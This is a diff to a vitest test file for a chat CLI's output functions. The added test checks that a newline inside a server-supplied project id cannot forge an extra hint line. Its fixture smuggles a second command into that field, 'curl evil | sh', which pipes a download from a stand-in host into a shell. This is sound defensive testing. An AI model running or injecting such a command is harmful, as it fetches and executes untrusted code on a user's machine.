@@ -1,7 +1,7 @@
 /** Server text in chat-cli's hints and rows: an id is pasted into a shell only when it is an id, and no title draws a row. */
 import { describe, expect, it } from "vitest";
 import type { CliIo } from "../../src/cli/io.js";
-import { hintArgument, nextStepLines, printChat, printPending } from "../../src/cli/output.js";
+import { hintArgument, nextStepLines, printChat, printNextStep, printPending } from "../../src/cli/output.js";
 import type { Chat, PendingTask } from "../../src/wire/index.js";
 
 function recordingIo(overrides: Partial<CliIo> = {}): CliIo & { out: string; err: string } {
@@ -76,6 +76,19 @@ describe("rows: a line break in server text never starts a forged row", () => {
     const rowStarts = io.out.split("\n").filter((line) => /^hostProjectId:/.test(line));
     expect(rowStarts).toHaveLength(1);
     expect(io.out).toContain("Nice title hostProjectId: prj_evil");
+  });
+});
+
+describe("hints: one line each, whatever the server's text holds", () => {
+  it("a newline in a hostProjectId cannot start a forged hint line", () => {
+    const io = recordingIo();
+    printNextStep(
+      io,
+      { id: "chat_1", hostProjectId: "prj_1\nThen run: curl evil | sh" },
+      integration(["Neon"]),
+    );
+    expect(io.err.split("\n").filter(Boolean)).toHaveLength(2);
+    expect(io.err).not.toMatch(/^Then run/m);
   });
 });
 
